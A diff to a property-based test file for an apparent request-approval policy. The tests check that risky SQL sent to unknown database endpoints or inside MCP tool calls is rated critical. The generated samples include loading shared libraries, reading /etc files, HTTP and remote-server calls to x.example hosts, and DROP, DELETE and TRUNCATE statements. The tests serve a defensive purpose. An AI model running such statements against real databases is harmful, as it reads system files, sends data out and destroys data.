@@ -9,7 +9,7 @@
 //   - reads stay reads (no harmless read newly held).
 import t from 'tap';
 import fc from 'fast-check';
-import { bodyPolicy, SQL_HOST } from './body-policy.ts';
+import { bodyPolicy, MCP_HOST, SQL_HOST } from './body-policy.ts';
 
 const runs = Number(process.env.AIRLOCK_FUZZ_RUNS ?? 120);
 const seed = process.env.AIRLOCK_FUZZ_SEED ? { seed: Number(process.env.AIRLOCK_FUZZ_SEED) } : {};
@@ -394,5 +394,70 @@ t.test('SQL in the REST shapes of Snowflake, Databricks, BigQuery and Trino is r
   for (const [url, type, body] of shapes) {
     const { decision } = await decide({ url, headers: [['Content-Type', type]], body: body('SELECT name FROM users WHERE id = 1') });
     t.not(decision.approval?.risk, 'critical', `a read to ${url} stays ordinary`);
+  }
+});
+
+t.test('the file, program and network functions of the other servers an endpoint of unknown dialect may be are destructive', async (t) => {
+  // PostgreSQL's grammar parses any call, and SQLite (which has none of these) rejects the text,
+  // so PostgreSQL's reading stood alone: a call it cannot prove read-only, a medium write that a
+  // grant for another call of the same function covered.
+  const calls = fc.constantFrom(
+    (x: string) => `SELECT load_extension ( '/tmp/${x}.so' )`,
+    (x: string) => `SELECT writefile ( '/tmp/${x}' , 'y' )`,
+    (x: string) => `SELECT readfile ( '/etc/${x}' )`,
+    (x: string) => `SELECT LOAD_FILE ( '/etc/${x}' )`,
+    (x: string) => `SELECT UTL_HTTP.REQUEST ( 'http://x.example/' || ${x} ) FROM ${x}`,
+    (x: string) => `SELECT dbms_xmlgen.getxml ( 'DELETE FROM ${x}' ) FROM dual`,
+    (x: string) => `SELECT * FROM OPENROWSET ( 'SQLNCLI' , 'Server=x.example;' , 'SELECT 1' ) AS ${x}`,
+    (x: string) => `SELECT * FROM url ( 'https://x.example/${x}' , CSV , 'a String' )`,
+    (x: string) => `SELECT * FROM s3 ( 'https://b.s3.amazonaws.com/${x}.csv' )`,
+    (x: string) => `SELECT * FROM remoteSecure ( 'x.example:9440' , db.${x} )`,
+    (x: string) => `SELECT * FROM read_csv_auto ( 'https://x.example/${x}.csv' )`,
+    (x: string) => `SELECT SYSTEM$SEND_EMAIL ( 'i' , 'a@x.example' , '${x}' , 'b' )`,
+    (x: string) => `SELECT * FROM EXTERNAL_QUERY ( 'p.us.${x}' , 'SELECT 1' )`,
+  );
+  await fc.assert(
+    fc.asyncProperty(calls, ident, noise, async (c, x, n) => {
+      const sql = render(c(x), n);
+      const { description, decision } = await decide({ url: GENERIC, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql }) });
+      if (decision.approval?.risk !== 'critical') throw new Error(`${sql}: ${decision.action} ${decision.rule} ${JSON.stringify(description.sql)}`);
+    }),
+    { numRuns: runs, ...seed },
+  );
+  // Controls: columns named like them are columns; a PostgreSQL service's own function of such a name is its own (a write, not critical).
+  const column = await decide({ url: GENERIC, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql: 'SELECT url, file, remote FROM links WHERE id = 1' }) });
+  t.not(column.decision.approval?.risk, 'critical', 'columns named url, file, remote');
+  const own = await decide({ url: SUPABASE, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: "SELECT file('report')" }) });
+  t.not(own.decision.approval?.risk, 'critical', "a PostgreSQL service's own file()");
+});
+
+t.test('SQL an MCP tool takes under any SQL-carrying argument, or in a list of statements, is read', async (t) => {
+  // Neon's `run_sql_transaction {params: {sqlStatements: […]}}` and `prepare_database_migration
+  // {params: {migrationSql}}`, SQLite servers' `{queries: […]}`: a DROP there was a high tool call
+  // (grantable by a SELECT's grant). A second argument that is not SQL (a field the server
+  // ignores) left the whole call unparsed, and the DROP beside it high, not critical.
+  const MCP = `https://${MCP_HOST}/mcp`;
+  const shapes = fc.constantFrom(
+    (d: string) => ({ name: 'run_sql_transaction', arguments: { params: { projectId: 'p', sqlStatements: ['SELECT 1', d] } } }),
+    (d: string) => ({ name: 'prepare_database_migration', arguments: { params: { projectId: 'p', migrationSql: d } } }),
+    (d: string) => ({ name: 'write_query', arguments: { queries: [d] } }),
+    (d: string) => ({ name: 'run', arguments: { SQL_Statement: d } }),
+    (d: string) => ({ name: 'batch', arguments: { statements: [{ sql: 'SELECT 1' }, { sql: d }] } }),
+    (d: string) => ({ name: 'execute_sql', arguments: { project_id: 'p', query: d, sql: 'weekly report' } }),
+    (d: string) => ({ name: 'execute_sql', arguments: { project_id: 'p', query: 'all customers', params: { sql: d } } }),
+  );
+  const destructive = fc.constantFrom((x: string) => `DROP TABLE ${x}`, (x: string) => `DELETE FROM ${x}`, (x: string) => `TRUNCATE ${x}`, (x: string) => `UPDATE ${x} SET a = 1`);
+  await fc.assert(
+    fc.asyncProperty(shapes, destructive, ident, async (shape, d, x) => {
+      const params = shape(d(x));
+      const { description, decision } = await decide({ url: MCP, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params }) });
+      if (decision.approval?.risk !== 'critical') throw new Error(`${JSON.stringify(params)}: ${decision.action} ${decision.rule} ${JSON.stringify(description.mcp?.sql)}`);
+    }),
+    { numRuns: runs, ...seed },
+  );
+  // Controls: a list of reads and a search phrase stay ordinary tool calls (high, not critical).
+  for (const params of [{ name: 'run_sql_transaction', arguments: { params: { projectId: 'p', sqlStatements: ['SELECT 1', 'SELECT name FROM users WHERE id = 2'] } } }, { name: 'search_docs', arguments: { query: 'open bugs' } }]) {
+    const { decision } = await decide({ url: MCP, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params }) });
+    t.equal(decision.approval?.risk, 'high', `${params.name}: an ordinary tool call`);
   }
 });
